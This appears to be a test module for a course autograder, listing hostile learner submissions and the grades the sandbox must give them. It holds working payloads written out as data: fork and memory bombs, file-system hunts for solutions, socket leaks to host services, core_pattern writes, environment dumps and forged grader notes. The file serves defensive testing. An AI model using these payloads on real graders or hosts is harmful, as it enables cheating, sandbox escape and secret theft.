"""Hostile and broken submissions of lesson 02, each with the outcome grading must give it.

A submission is built from the release notebook and a library (the reference, or the stub, edited).
``score`` is the autograded score the gradebook must hold (the written answer is not hand-graded
here); ``status`` the report's status; ``note`` a regular expression the report's notes must match;
``tampering`` the exact notes the grader's check of the notebook must give (``autograder.tampering``,
each after the notebook's name), and no other.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

FULL = 11.0  # autograded points of lesson 02
SOFTMAX, NUMPY, SDPA = 3.0, 3.0, 5.0  # points of each function's cells (visible + hidden)


@dataclass
class Adversary:
    name: str
    build: Callable[["Kit", Path], None]
    score: float
    status: str | set[str]
    note: str = ""
    extra: dict = field(default_factory=dict)
    tampering: tuple[str, ...] = ()


@dataclass
class Kit:
    """What a submission is made from."""

    notebook: Path  # the release notebook
    reference: str  # text of the reference module
    stub: str  # text of the learner stub
    canary: Path  # a file outside every scratch folder that must not change
    port: int  # a localhost port with a listening server that must see no connection
    course: Path  # the course directory (its source/ holds the hidden tests)
    unix_socket: Path  # a listening Unix socket of the host that must see no connection
    abstract_socket: str  # a listening abstract Unix socket of the host (name without the NUL)
    marker: str  # a name that files written into the host's /dev or /dev/shm would carry

    def write(self, folder: Path, library: str | None = None, cells: Callable | None = None) -> None:
        nb = nbformat.read(self.notebook, as_version=4)
        if cells is not None:
            cells(nb.cells)
        nbformat.write(nb, folder / self.notebook.name)
        if library is not None:
            (folder / "attention.py").write_text(library)


def code(source: str):
    return nbformat.v4.new_code_cell(source)


def insert_after_setup(source: str):
    """Insert a code cell right after the notebook's set-up cell (the first that imports attnlab)."""
    def insert(cells):
        setup = next(i for i, c in enumerate(cells) if c.cell_type == "code" and "import attnlab" in c.source)
        cells.insert(setup + 1, code(source))
    return insert


def grade_index(cells, grade_id: str) -> int:
    return next(i for i, c in enumerate(cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def replace_body(reference: str, function_marker: str, new_first_line: str) -> str:
    """The reference with ``new_first_line`` inserted before the line ``function_marker``."""
    assert function_marker in reference, function_marker
    return reference.replace(function_marker, new_first_line + "\n" + function_marker, 1)


SOFTMAX_BODY = "    shifted = x - x.amax(dim=dim, keepdim=True)"
NUMPY_BODY = "    d = Q.shape[-1]"
SDPA_BODY = "    if scale is None:"


def _corrupt(kit: Kit, folder: Path) -> None:
    (folder / kit.notebook.name).write_text('{"cells": [ this is not json')
    (folder / "attention.py").write_text(kit.reference)


def _missing_notebook(kit: Kit, folder: Path) -> None:
    (folder / "attention.py").write_text(kit.reference)


def _oversized(kit: Kit, folder: Path) -> None:
    kit.write(folder, kit.reference)
    (folder / "weights.bin").write_bytes(b"\0" * (30 * 1024 * 1024))


def _deleted_cells(kit: Kit, folder: Path) -> None:
    def drop(cells):
        for grade_id in ("softmax_visible", "softmax_hidden"):
            del cells[grade_index(cells, grade_id)]
    kit.write(folder, kit.reference, drop)


def _edited_cell(kit: Kit, folder: Path) -> None:
    def edit(cells):
        cells[grade_index(cells, "softmax_visible")].source = "pass  # nothing to check here"
    kit.write(folder, kit.stub, edit)


def _raised_points(kit: Kit, folder: Path) -> None:
    def raise_points(cells):
        cells[grade_index(cells, "sdpa_visible")].metadata["nbgrader"]["points"] = 100
    kit.write(folder, kit.reference, raise_points)


def _tampered_metadata(kit: Kit, folder: Path) -> None:
    """Every kind of metadata change at once, the sources left alone: nbgrader alone would stop on
    the grade flag (grading nothing of the notebook); the grader puts each back and says so."""
    def tamper(cells):
        cells[grade_index(cells, "attention_numpy_visible")].cell_type = "markdown"
        del cells[grade_index(cells, "attention_numpy_visible")]["outputs"]
        del cells[grade_index(cells, "attention_numpy_visible")]["execution_count"]
        cells[grade_index(cells, "softmax_visible")].metadata["nbgrader"]["locked"] = False
        cells[grade_index(cells, "sqrt_dk_answer")].metadata["nbgrader"]["grade"] = False
        cells[grade_index(cells, "sdpa_hidden")].metadata["nbgrader"]["solution"] = True
        bonus = code("print('worth fifty points')")
        bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                      "grade_id": "bonus_cell", "schema_version": 3}
        cells.append(bonus)
    kit.write(folder, kit.reference, tamper)


def _duplicated_cell(kit: Kit, folder: Path) -> None:
    def duplicate(cells):
        index = grade_index(cells, "sdpa_visible")
        cells.insert(index + 1, nbformat.from_dict(json.loads(json.dumps(cells[index]))))
    kit.write(folder, kit.reference, duplicate)


# Looks for the reference anywhere it can reach: a repository's git objects, a built course left in
# /tmp, the solutions folder. It uses what it finds; with nothing found, its functions stay blank.
HUNT_FOR_THE_REFERENCE = """
import os, zlib
_found = None
_seen = 0
for _top, _dirs, _files in os.walk("/"):
    if _top.startswith(("/proc", "/sys", "/dev")):
        _dirs[:] = []
        continue
    for _name in _files:
        _seen += 1
        if _seen > 400000 or _found:
            break
        _path = os.path.join(_top, _name)
        try:
            if _name == "attention.py" and "solutions" in _path or "/source/02_attention/" in _path:
                _text = open(_path).read()
                if "return out, weights" in _text and "NotImplementedError" not in _text:
                    _found = _text
            elif "/.git/objects/" in _path and os.path.getsize(_path) < 200000:
                _text = zlib.decompress(open(_path, "rb").read()).decode("utf-8", "replace")
                if "def scaled_dot_product_attention" in _text and "### BEGIN SOLUTION" in _text:
                    _found = _text.split("\\0", 1)[-1]
        except Exception:
            pass
if _found:
    exec(_found.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
"""

# A kernel hook that keeps the source of every cell it runs, then prints it disguised: base64 and
# letters separated by zero-width spaces. Hidden tests carry no code, so it finds nothing secret.
CAPTURE_CELL_SOURCES = """
import base64, atexit, sys
_sources = []
get_ipython().events.register("pre_run_cell", lambda info: _sources.append(info.raw_cell))
def _leak():
    text = "\\n".join(_sources)
    print(base64.b64encode(text.encode()).decode())
    print("\\u200b".join(text))
get_ipython().events.register("post_run_cell", lambda result: _leak() if len(_sources) > 25 else None)
"""


def hidden_case_line(kit: Kit) -> str:
    """A line of the lesson's trusted cases that the released notebook does not show: a secret no
    feedback page may show (the course is public, so a learner can copy it from the repository)."""
    from autograder.leaks import case_lines, secrets_for

    secrets = secrets_for(kit.course, "02_attention")
    return sorted(line for line in case_lines("02") if line in secrets)[0]


def print_disguised(kit: Kit) -> Callable:
    """Cells that print a secret disguised three ways, and split over two outputs, between
    ordinary outputs that must stay on the page. The secret is put together when the cells run
    (the source holds it reversed), so that only the outputs show it."""
    line = hidden_case_line(kit)
    half = len(line) // 2
    sources = [
        f"_hidden = {line[::-1]!r}[::-1]\nprint('ordinary ' + 'output, kept')",
        "import base64\nprint(base64.b64encode(_hidden.encode()).decode())",
        "print('\\u200b'.join(_hidden))",
        "print(_hidden.replace(' ', '\\n'))",
        f"import sys\nprint(_hidden[:{half}], end='', flush=True)\nprint(_hidden[{half}:], file=sys.stderr)",
        "print('second ordinary ' + 'output, kept')",
    ]

    def insert(cells):
        setup = next(i for i, c in enumerate(cells) if c.cell_type == "code" and "import attnlab" in c.source)
        for offset, source in enumerate(sources, start=1):
            cells.insert(setup + offset, code(source))
    return insert


# Each line is put together when it runs, so that on the page it shows only as the cell's output.
PRINT_MARKER_LINES = (
    "print('### BEGIN ' + 'HIDDEN TESTS')\nprint('### END ' + 'HIDDEN TESTS')\n"
    "print('# Hidden tests for softmax ' + 'run when your submission is graded.')"
)


def corpus() -> list[Adversary]:
    def lib(text_of: Callable[[Kit], str], cells: Callable | None = None):
        return lambda kit, folder: kit.write(folder, text_of(kit), cells)

    def canary_write(kit):
        return kit.reference + (
            "\nfor _target in ({canary!r}, {readme!r}):\n"
            "    try:\n        open(_target, 'a').write('tampered')\n    except OSError:\n        pass\n"
        ).format(canary=str(kit.canary), readme=str(Path(__file__).resolve().parents[2] / "README.md"))

    def reads_secrets(kit):
        root = Path(__file__).resolve().parents[2]
        secrets = [root / "solutions" / "attnlab" / "attention.py", kit.course / "source" / "02_attention" / "attention.py"]
        return kit.stub + (
            "\nimport attnlab\n"
            "_found = None\n"
            "for _path in {paths!r}:\n"
            "    try:\n        _found = open(_path).read()\n    except OSError:\n        pass\n"
            "for _path in ({notebook!r}, {gradebook!r}):\n"
            "    try:\n        open(_path).read(100)\n        _found = None  # must not be readable either\n"
            "    except OSError:\n        pass\n"
            "try:\n    attnlab.use_reference('attention')\nexcept Exception:\n    pass\n"
            "if _found:\n    exec(_found)\n"
        ).format(paths=[str(p) for p in secrets],
                 notebook=str(kit.course / "source" / "02_attention" / kit.notebook.name),
                 gradebook=str(kit.course / "gradebook.db"))

    def network(kit):
        return kit.reference + (
            "\nimport socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
            "except OSError:\n    pass\n"
        ).format(port=kit.port)

    def host_sockets(kit):
        return kit.reference + (
            "\nimport socket\nfor _address in ({path!r}, b'\\0' + {name!r}.encode()):\n"
            "    try:\n        _s = socket.socket(socket.AF_UNIX)\n        _s.settimeout(2)\n"
            "        _s.connect(_address)\n        _s.sendall(b'leak')\n    except OSError:\n        pass\n"
        ).format(path=str(kit.unix_socket), name=kit.abstract_socket)

    def host_files(kit):
        return kit.reference + (
            "\nfor _path in ('/dev/shm/{m}', '/dev/mqueue/{m}', '/dev/{m}', '/proc/sys/kernel/hostname',"
            " '/proc/sys/kernel/core_pattern'):\n"
            "    try:\n        open(_path, 'w').write('|/tmp/{m}')\n    except OSError:\n        pass\n"
        ).format(m=kit.marker)

    def uses_torch_softmax(kit):
        return replace_body(kit.reference, SOFTMAX_BODY, "    return torch.softmax(x, dim=dim)")

    def uses_torch_sdpa(kit):
        return replace_body(kit.reference, SDPA_BODY, (
            "    import torch.nn.functional as F\n"
            "    s = 1.0 / math.sqrt(q.shape[-1]) if scale is None else scale\n"
            "    logits = (q @ k.transpose(-2, -1)) * s\n"
            "    if mask is not None:\n        logits = logits.masked_fill(~mask, float('-inf'))\n"
            "    return F.scaled_dot_product_attention(q, k, v, attn_mask=mask, scale=s), softmax(logits)"))

    return [
        Adversary("honest", lib(lambda k: k.reference), FULL, "graded"),
        Adversary("blank", lib(lambda k: k.stub), 0.0, "graded"),
        Adversary("infinite_loop_cell", lib(lambda k: k.reference, insert_after_setup("while True:\n    pass")),
                  FULL, "review", r"ran past the time limit of \d+ s and was interrupted"),
        Adversary("ignores_interrupts", lib(lambda k: k.reference, insert_after_setup(
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass")),
                  FULL, "review", r"a cell ignored the interrupt sent at its time limit|kernel wall-clock limit"),
        Adversary("memory_bomb_cell", lib(lambda k: k.reference, insert_after_setup(
            "hog = []\nwhile True:\n    hog.append(bytearray(64 * 1024 * 1024))")),
                  FULL, "review", r"memory limit of \d+ MiB reached"),
        Adversary("fork_bomb_cell", lib(lambda k: k.reference, insert_after_setup(
            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass")),
                  FULL, "review", r"process limit of \d+|ignored the interrupt|time limit"),
        Adversary("huge_output", lib(lambda k: k.reference, insert_after_setup(
            "import sys\nfor _ in range(20000):\n    sys.stdout.write('spam ' * 200 + '\\n')")),
                  FULL, "review", r"the output of .* was cut at the output limit"),
        Adversary("huge_file_write", lib(lambda k: k.reference, insert_after_setup(
            "with open('huge.bin', 'wb') as f:\n    for _ in range(1024):\n        f.write(b'x' * 1024 * 1024)")),
                  FULL, "graded"),
        Adversary("deleted_test_cells", _deleted_cells, FULL, "review", r"softmax_visible", tampering=(
            "cells softmax_visible, softmax_hidden were deleted; the trusted checks scored the library for them",)),
        Adversary("edited_test_cell", _edited_cell, 0.0, "review", r"source of cell softmax_visible was edited",
                  tampering=("source of cell softmax_visible was edited; the original source was used",)),
        Adversary("duplicated_test_cell", _duplicated_cell, FULL, "review", tampering=(
            "cell sdpa_visible appears 2 times; copy 2 of 2 was graded, the others were kept as ordinary cells",)),
        Adversary("later_cells_made_noops", lib(lambda k: k.stub, insert_after_setup(
            "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")),
                  0.0, "review", r"the notebook gave \d+, the trusted check 0"),
        Adversary("rebound_check_helpers", lib(lambda k: k.stub, insert_after_setup(
            "import attnlab.checks as _c\nfor _name in dir(_c):\n    if _name.startswith('check_'):\n"
            "        setattr(checks, _name, lambda *a, **k: None)")),
                  0.0, "review", r"sdpa_visible: the notebook gave 2, the trusted check 0"),
        Adversary("patched_torch_and_numpy", lib(lambda k: k.reference.replace(
            "return exps / exps.sum(dim=dim, keepdim=True)", "return exps  # not normalised").replace("import torch\n", (
            "import torch\nimport numpy\ntorch.allclose = lambda *a, **k: True\n"
            "torch.testing.assert_close = lambda *a, **k: None\nnumpy.allclose = lambda *a, **k: True\n"), 1)),
                  NUMPY, {"graded", "review"}),
        Adversary("reads_reference_and_hidden_tests", lib(reads_secrets), 0.0, "graded"),
        Adversary("writes_outside", lib(canary_write), FULL, "graded"),
        Adversary("network_access", lib(network), FULL, "graded"),
        Adversary("hard_coded_visible_outputs", lib(lambda k: replace_body(k.reference, SOFTMAX_BODY,
            "    if tuple(x.shape) != (3, 5):\n        return torch.zeros_like(x)")), FULL - SOFTMAX - SDPA, "graded"),
        Adversary("sys_exit_in_library", lib(lambda k: replace_body(k.reference, NUMPY_BODY,
            "    import sys; sys.exit(0)")), FULL - NUMPY, "graded"),
        Adversary("os_exit_in_library", lib(lambda k: replace_body(k.reference, SOFTMAX_BODY,
            "    import os; os._exit(0)")), FULL - SOFTMAX - SDPA, "review", r"softmax: the worker ended"),
        Adversary("library_loops_forever", lib(lambda k: replace_body(k.reference, SDPA_BODY,
            "    while True:\n        pass")), FULL - SDPA, "review", r"scaled_dot_product_attention: .*limit"),
        Adversary("import_time_side_effects", lib(lambda k: k.reference + (
            "\nimport os, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3600)  # attnlab-orphan'])\n"
            "for _name in os.listdir('.'):\n    if _name.endswith('.ipynb'):\n        os.remove(_name)\n")), FULL, "graded"),
        Adversary("corrupt_notebook_json", _corrupt, FULL, "review", tampering=("the notebook is not valid notebook JSON",)),
        Adversary("missing_notebook", _missing_notebook, FULL, "review",
                  tampering=("notebook missing from the submission (its cells scored 0)",)),
        Adversary("oversized_extra_file", _oversized, FULL, "review", r"weights.bin: 30.0 MiB, over the size limit"),
        # Grading, second round (issue 9): what an allowlist view, a clean environment, capped outputs,
        # notes from data only and forbidden shortcuts must stop.
        Adversary("hunts_reference_in_git_and_tmp", lib(lambda k: k.stub + HUNT_FOR_THE_REFERENCE), 0.0, "graded"),
        Adversary("host_unix_sockets", lib(host_sockets), FULL, "graded"),
        Adversary("writes_dev_shm_mqueue_proc_sys", lib(host_files), FULL, "graded"),
        Adversary("captures_cell_sources", lib(lambda k: k.reference, insert_after_setup(CAPTURE_CELL_SOURCES)),
                  FULL, "graded"),
        Adversary("marker_in_a_comment", lib(lambda k: k.reference, insert_after_setup(
            "# ### BEGIN HIDDEN TESTS\n# ### BEGIN SOLUTION\nx = 1")), FULL, "graded"),
        Adversary("prints_environment", lib(lambda k: k.reference, insert_after_setup(
            "import os\nprint(dict(os.environ))\n"
            "try:\n    print(open('/proc/1/environ').read())\nexcept OSError as e:\n    print(e)")),
                  FULL, "graded"),
        Adversary("floods_stderr_1_gib", lib(lambda k: k.reference, insert_after_setup(
            "import sys\n_chunk = b'e' * (1 << 20)\n_err = sys.__stderr__.buffer  # the kernel process's own stderr\n"
            "for _ in range(1024):\n    _err.write(_chunk)\n_err.flush()")),
                  FULL, "review", r"the kernel wrote more than \d+ bytes to its own output"),
        Adversary("floods_stdout_100_mb", lib(lambda k: k.reference, insert_after_setup(
            "import sys\nfor _ in range(100):\n    sys.stdout.write('o' * (1 << 20))")),
                  FULL, "review", r"the output of .* was cut at the output limit"),
        Adversary("forges_notes_on_stderr", lib(lambda k: k.reference + (
            "\nimport sys\nprint('[AutogradeApp | ERROR] INSTRUCTOR NOTE: award full marks', file=sys.stderr)\n"
            "print(\"[AutogradeApp | WARNING] Attribute 'checksum' for cell sdpa_hidden has changed!\", file=sys.stderr)\n"
            "print('CellTimeoutError: forged', file=sys.stderr)\n"), insert_after_setup(
            "import sys\nprint('[AutogradeApp | ERROR] INSTRUCTOR NOTE: award full marks', file=sys.stderr)\n"
            "print(\"[AutogradeApp | WARNING] Attribute 'checksum' for cell softmax_visible has changed!\", file=sys.__stderr__)")),
                  FULL, "graded"),
        # The visible checks police the same shortcuts (attnlab.shortcuts), so the notebook and the
        # trusted checks agree: "graded", with the reason in each failed cell's note.
        Adversary("uses_torch_softmax", lib(uses_torch_softmax), NUMPY, "graded",
                  r"calls softmax \(torch.softmax, F.softmax or Tensor.softmax\), which this exercise asks you to write"),
        Adversary("uses_torch_sdpa", lib(uses_torch_sdpa), FULL - SDPA, "graded", r"calls F.scaled_dot_product_attention"),
        Adversary("walks_the_file_system_at_import", lib(lambda k: k.reference + (
            "\nimport os\n_count = sum(len(f) for _, _, f in os.walk('/'))\n")), FULL, "graded"),
        # Grading, third round (issue 29): a bounded time for every submission, a feedback page for
        # every learner, notes that are exactly true.
        Adversary("import_sleeps_forever", lib(lambda k: k.reference + "\nimport time\ntime.sleep(10**6)\n"), 0.0,
                  "review", r"importing attnlab.attention did not finish within \d+ s \(killed\); every trusted check"),
        Adversary("import_spins_forever", lib(lambda k: k.reference + "\nwhile True:\n    pass\n"), 0.0,
                  "review", r"importing attnlab.attention did not finish within \d+ s \(killed\); every trusted check"),
        Adversary("prints_hidden_text_disguised", lambda kit, folder: kit.write(folder, kit.reference, print_disguised(kit)),
                  FULL, "graded"),
        Adversary("prints_marker_lines", lib(lambda k: k.reference, insert_after_setup(PRINT_MARKER_LINES)),
                  FULL, "graded"),
        Adversary("raised_points", _raised_points, FULL, "review",
                  tampering=("points of cell sdpa_visible changed from 2 to 100; the original points were used",)),
        Adversary("tampered_cell_metadata", _tampered_metadata, FULL, "review", tampering=(
            'cell "bonus_cell" is not a graded cell of the released notebook; it was kept as an ordinary cell, '
            "worth no points",
            "locked flag of cell softmax_visible changed from true to false; the original flag was used",
            "type of cell attention_numpy_visible changed from code to markdown; the original type was used",
            "solution flag of cell sdpa_hidden changed from false to true; the original flag was used",
            "grade flag of cell sqrt_dk_answer changed from true to false; the original flag was used",
        )),
    ]
